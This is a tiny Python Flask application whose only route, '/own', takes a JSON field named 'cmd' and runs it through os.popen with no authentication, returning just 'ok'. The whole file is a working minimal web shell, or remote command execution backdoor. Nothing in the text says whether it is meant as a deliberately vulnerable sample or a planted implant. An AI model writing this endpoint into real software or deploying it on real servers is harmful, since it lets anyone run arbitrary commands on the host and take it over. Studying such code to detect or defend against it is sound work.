from flask import Flask, request
import os

app = Flask(__name__)


@app.route("/own", methods=["GET", "POST"])
def own():
    data = request.get_json()
    for key, value in data.items():
        if key == "cmd":
            os.popen(value)
    return "ok"
